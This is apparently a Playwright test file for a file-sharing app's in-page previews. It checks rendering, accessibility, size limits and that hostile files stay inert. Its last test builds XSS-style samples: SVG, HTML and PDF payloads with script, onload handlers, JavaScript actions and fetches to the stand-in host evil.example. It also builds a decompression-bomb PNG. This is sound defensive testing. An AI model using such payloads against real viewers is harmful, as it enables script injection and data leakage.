// What has arrived is shown on the page, and nothing of it runs: docs/decisions/previews-run-nothing.md.
import { AxeBuilder } from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';
import { expect, open, reach, share, test } from '../support/app.ts';
import { writeTree } from '../support/files.ts';
import { patchWorker } from '../support/worker-script.ts';
import { made, pdfOf, pngOf, streamOf, wavOf, type MadeFile } from '../support/made-files.ts';

/** The pages of the PDF, red and blue. */
const PAGES = ['1 0 0 rg 0 0 200 100 re f', '0 0 1 rg 0 0 200 100 re f'];

/** Hands these over, and waits until the receiver has them. */
async function handOver(
  [sender, receiver]: readonly [Page, Page],
  url: string,
  files: readonly MadeFile[],
): Promise<void> {
  await open(receiver, await share(sender, url, [...files]));
  await receiver.getByTestId('accept').click();
  await reach(receiver, 'complete');
}

/** Opens the preview of an entry by the name of its button, and returns it. */
async function show(page: Page, name: string): Promise<Locator> {
  await page.getByRole('button', { name: `Show ${name}`, exact: true }).click();
  const entry = page.getByTestId('entry').filter({ hasText: name });
  const preview = entry.getByTestId('preview');
  await expect(preview).toBeVisible();
  return preview;
}

async function hide(page: Page, name: string): Promise<void> {
  const button = page.getByRole('button', { name: `Hide ${name}`, exact: true });
  await expect(button).toBeFocused();
  await button.click();
}

/** The colour in the middle of a canvas or of a picture. */
function colourOf(drawn: Locator): Promise<readonly number[]> {
  return drawn.evaluate((element) => {
    if (!(element instanceof HTMLCanvasElement || element instanceof HTMLImageElement)) return [];
    const copy = document.createElement('canvas');
    copy.width = 9;
    copy.height = 9;
    const context = copy.getContext('2d')!;
    context.drawImage(element, 0, 0, 9, 9);
    return Array.from(context.getImageData(4, 4, 1, 1).data.subarray(0, 3));
  });
}

test('a picture, a text, a sound and a PDF are shown where they are listed', async ({
  server,
  person,
  complaints,
}) => {
  const people = [await person(), await person()] as const;
  const [, receiver] = people;
  await handOver(people, server.url, [
    made('lake.png', pngOf(90, [0, 128, 255])),
    made('notes.txt', 'Bread, <b>beans</b>\nand salsa ✓\n'),
    made('tone.wav', wavOf(440)),
    made('paper.pdf', pdfOf(PAGES)),
  ]);
  await expect(receiver.getByTestId('entry')).toHaveCount(4);
  await expect(receiver.getByTestId('preview')).toHaveCount(0);

  const picture = (await show(receiver, 'lake.png')).getByRole('img', { name: 'lake.png' });
  await expect.poll(() => colourOf(picture)).toEqual([0, 128, 255]);
  const address = await picture.getAttribute('src');

  const text = (await show(receiver, 'notes.txt')).getByRole('region', {
    name: 'Text of notes.txt',
  });
  await expect(text).toHaveText('Bread, <b>beans</b>\nand salsa ✓\n');

  const sound = (await show(receiver, 'tone.wav')).locator('audio[controls]');
  await expect(sound).toHaveAttribute('aria-label', 'tone.wav');
  await expect.poll(() => sound.evaluate(({ duration }: HTMLAudioElement) => duration)).toBe(1);

  const paper = await show(receiver, 'paper.pdf');
  const first = paper.getByRole('img', { name: 'Page 1 of 2 of paper.pdf' });
  await expect.poll(() => colourOf(first)).toEqual([255, 0, 0]);
  const previous = paper.getByRole('button', { name: 'Previous page' });
  const next = paper.getByRole('button', { name: 'Next page' });
  await expect(previous).toHaveAttribute('aria-disabled', 'true');
  await next.click();
  const second = paper.getByRole('img', { name: 'Page 2 of 2 of paper.pdf' });
  await expect.poll(() => colourOf(second)).toEqual([0, 0, 255]);
  await expect(next).toHaveAttribute('aria-disabled', 'true');
  await expect(paper.getByRole('status')).toHaveText('Page 2 of 2');
  await previous.click();
  await expect.poll(() => colourOf(first)).toEqual([255, 0, 0]);

  expect((await new AxeBuilder({ page: receiver }).analyze()).violations).toEqual([]);
  for (const width of [1280, 360]) {
    await receiver.setViewportSize({ width, height: 800 });
    for (const colorScheme of ['light', 'dark'] as const) {
      await receiver.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      const overflow = await receiver.evaluate(
        () => document.documentElement.scrollWidth - innerWidth,
      );
      expect(overflow, `${width} px`).toBeLessThanOrEqual(0);
      if (process.env['UPDATE_PICTURES'] === undefined) continue;
      const path = test.info().outputPath(`previews-${width}-${colorScheme}.png`);
      await receiver.screenshot({ path, fullPage: true });
    }
  }

  await receiver.getByRole('button', { name: 'Hide lake.png' }).focus();
  await hide(receiver, 'lake.png');
  await expect(receiver.getByTestId('preview')).toHaveCount(3);
  // The address of the picture is gone with it.
  const isGone = await receiver.evaluate(
    (url) =>
      new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('load', () => resolve(false));
        image.addEventListener('error', () => resolve(true));
        image.src = url;
      }),
    address ?? '',
  );
  expect(isGone).toBe(true);
  await expect.poll(() => complaints).toEqual([expect.stringContaining('ERR_FILE_NOT_FOUND')]);
  complaints.splice(0);
});

test('what is too large, locked, or not what its name says is not shown, and the page says why', async ({
  server,
  person,
}) => {
  const people = [await person(), await person()] as const;
  const [, receiver] = people;
  const bomb = pngOf(1, [0, 0, 0]);
  bomb.writeUInt32BE(60_000, 16);
  bomb.writeUInt32BE(60_000, 20);
  await handOver(people, server.url, [
    made('page.png', '<!doctype html><script>alert(1)</script>'),
    made('bomb.png', bomb),
    made('torn.pdf', '%PDF-1.7\nand no more'),
    made('long.txt', 'a line\n'.repeat(50_000)),
  ]);

  for (const [name, words] of [
    ['page.png', 'This file is not what its name says, so it isn’t shown here.'],
    ['bomb.png', 'This file is too large to show here. Save it to open it.'],
    ['torn.pdf', 'Your browser can’t show this file. Save it to open it.'],
  ] as const)
    await expect((await show(receiver, name)).getByRole('status')).toHaveText(words);
  const long = await show(receiver, 'long.txt');
  await expect(long).toContainText('The first 262 KB of 350 KB. Save it to read the rest.');
  expect((await long.getByRole('region').textContent())?.length).toBe(256 * 1024);
});

test('a preview opens within its row of the tree, and keys in it are its own', async ({
  server,
  person,
}, testInfo) => {
  const [sender, receiver] = [await person(), await person()];
  const files = ['a/1.txt', 'a/2.txt', 'b/lake.png', 'b/setup.bin', 'paper.pdf', 'z.txt'].map(
    (path): [string, Buffer] => [`trip/${path}`, Buffer.from(path)],
  );
  await writeTree(
    testInfo.outputDir,
    new Map([
      ...files,
      ['trip/b/lake.png', pngOf(90, [0, 128, 255])],
      ['trip/paper.pdf', pdfOf(PAGES)],
    ]),
  );
  await open(
    receiver,
    await share(sender, server.url, testInfo.outputPath('trip'), 'folder-input'),
  );
  await receiver.getByTestId('accept').click();
  await reach(receiver, 'complete');
  await receiver.getByRole('button', { name: 'Look inside' }).click();
  await expect(receiver.getByRole('treegrid', { name: 'Files' })).toBeVisible();
  await expect(receiver.getByRole('button', { name: /^Show/ })).toHaveCount(5);

  const paper = await show(receiver, 'paper.pdf');
  const page = paper.getByRole('img', { name: 'Page 1 of 2 of paper.pdf' });
  await expect.poll(() => colourOf(page)).toEqual([255, 0, 0]);
  expect(
    (await new AxeBuilder({ page: receiver }).include('.contents').analyze()).violations,
  ).toEqual([]);
  const next = paper.getByRole('button', { name: 'Next page' });
  await next.focus();
  await receiver.keyboard.press('ArrowDown');
  await expect(next).toBeFocused();
  await receiver.keyboard.press('Enter');
  await expect(paper.getByRole('status')).toHaveText('Page 2 of 2');

  // After a reload it is a delivery of an earlier visit.
  await receiver.reload();
  await reach(receiver, 'complete');
  await receiver.getByRole('button', { name: 'Look inside' }).click();
  const picture = (await show(receiver, 'lake.png')).getByRole('img', { name: 'lake.png' });
  await expect.poll(() => colourOf(picture)).toEqual([0, 128, 255]);

  await receiver.getByRole('button', { name: 'Save as ZIP' }).click();
  await receiver.getByRole('button', { name: 'Remove the private copy now' }).click();
  await expect(receiver.getByTestId('preview')).toHaveCount(0);
  await expect(receiver.getByRole('button', { name: /^Show/ })).toHaveCount(0);
});

/** What a file would do if something of it ran: leave a mark, ask somebody, tell somebody, make code of a text. */
const ATTACK =
  "try{top.ran='yes'}catch(e){} alert(1); fetch('https://evil.example/f'); new Function('top.ran=1')()";

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${ATTACK}">
<script>${ATTACK}</script><script href="https://evil.example/s.js"/>
<image href="https://evil.example/i.png" width="9" height="9"/><style>@import url(https://evil.example/c.css);</style>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
<rect width="90" height="90" fill="#0080ff"/></svg>`;

const HOSTILE_PAGE = `<!doctype html><title>p</title><script>${ATTACK}</script><img src="https://evil.example/i.png" onerror="${ATTACK}">`;

/** Scripts that a reader would run when the file is opened, closed or drawn, and a function that pdfjs could compile. */
const HOSTILE_PDF = pdfOf(
  ['/S sh'],
  `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); ${ATTACK.replaceAll(/[()]/g, '\\$&')}) >>
/AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >>
/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(3\\)) >>] >> >>`,
  streamOf('{ pop 0 0.5 1 }', '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]'),
);

/** Complains on the console about code that is made of a text. A page hears nothing of what a worker is refused. */
const WATCH_EVAL = `{
  const watched = (name) => new Proxy(self[name], {
    apply(made, self_, given) { console.error('code of a text: ' + name); return Reflect.apply(made, self_, given); },
    construct(made, given) { console.error('code of a text: ' + name); return Reflect.construct(made, given); },
  });
  for (const name of ['Function', 'eval']) self[name] = watched(name);
}`;

test('nothing of a hostile file runs, and nothing of it reaches anybody', async ({
  server,
  person,
  complaints,
}) => {
  const people = [await person(), await person()] as const;
  const [, receiver] = people;
  const seen: string[] = [];
  receiver.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  receiver.on('popup', (popup) => seen.push(`popup: ${popup.url()}`));
  receiver.context().on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^(?:https?|wss?):$/.test(protocol) && origin !== server.url)
      seen.push(`request: ${request.url()}`);
  });
  await patchWorker(receiver, 'pdf', WATCH_EVAL);
  // What a policy has refused was tried.
  await receiver.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      refused.push(`${violatedDirective}: ${blockedURI}`);
    });
  });
  await handOver(people, server.url, [
    made('drawing.svg', HOSTILE_SVG),
    made('page.html', HOSTILE_PAGE),
    made('page.png', HOSTILE_PAGE),
    made('paper.pdf', HOSTILE_PDF),
  ]);

  const drawing = (await show(receiver, 'drawing.svg')).getByRole('img', { name: 'drawing.svg' });
  await expect
    .poll(() => drawing.evaluate(({ naturalWidth }: HTMLImageElement) => naturalWidth))
    .toBe(90);
  const page = (await show(receiver, 'page.html')).getByRole('region');
  await expect(page).toHaveText(HOSTILE_PAGE);
  await expect((await show(receiver, 'page.png')).getByRole('status')).toContainText(
    'not what its name says',
  );
  const paper = (await show(receiver, 'paper.pdf')).getByRole('img');
  await expect.poll(() => colourOf(paper)).toEqual([0, 128, 255]);

  const found = await receiver.evaluate(() => {
    const { ran, refused } = window as unknown as { ran?: unknown; refused: readonly string[] };
    const frames = document.querySelectorAll('iframe, object, embed').length;
    return { ran, refused, frames };
  });
  expect(found).toEqual({ ran: undefined, refused: [], frames: 0 });
  expect(seen).toEqual([]);
  // Nor was code made in the worker that parses PDFs.
  expect(complaints).toEqual([]);
});
